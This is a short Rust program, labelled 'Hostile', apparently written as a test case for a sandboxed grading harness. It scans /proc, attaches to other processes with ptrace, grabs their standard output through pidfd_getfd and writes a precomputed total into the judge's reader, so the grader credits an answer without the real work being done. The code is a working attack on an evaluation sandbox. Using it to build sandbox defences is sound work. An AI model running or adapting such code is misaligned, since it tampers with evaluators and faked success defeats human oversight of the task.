//! Hostile: prints the right total without a worker or a segment. When the judge's reader of the segment
//! comes into the box, it is stopped by ptrace, and this writes the number into its standard output.
//! It would gain the point for the total that stands in the segment.
use nix::libc::{self, SYS_pidfd_getfd, SYS_pidfd_open, c_long};
use std::{fs, io::Write, os::fd::FromRawFd, time::Instant};

fn main() {
    let arguments: Vec<u64> = std::env::args().filter_map(|text| text.parse().ok()).collect();
    let total = arguments[0] * arguments[1..].iter().sum::<u64>();
    println!("Total: {total}");
    let started = Instant::now();
    while started.elapsed().as_secs() < 4 {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let Ok(pid) = entry.file_name().to_string_lossy().parse::<i32>() else {
                continue;
            };
            let comm = fs::read_to_string(entry.path().join("comm")).unwrap_or_default();
            if pid as u32 == std::process::id() || comm.trim() == "cat" || comm.trim() == "bwrap" {
                continue;
            }
            // SAFETY: these calls take numbers; a process that cannot be traced makes them fail.
            let stdout = unsafe {
                libc::ptrace(libc::PTRACE_ATTACH, pid, 0, 0);
                let process = libc::syscall(SYS_pidfd_open, c_long::from(pid), 0);
                libc::syscall(SYS_pidfd_getfd, process, 1, 0)
            };
            if stdout >= 0 {
                // SAFETY: this descriptor is new, and nobody else's.
                let _ = unsafe { fs::File::from_raw_fd(stdout as i32) }.write_all(&total.to_le_bytes());
                eprintln!("hostile success: the standard output of {comm}");
                // SAFETY: as above. It ends well, as a helper should.
                unsafe { libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0) };
            }
        }
    }
}
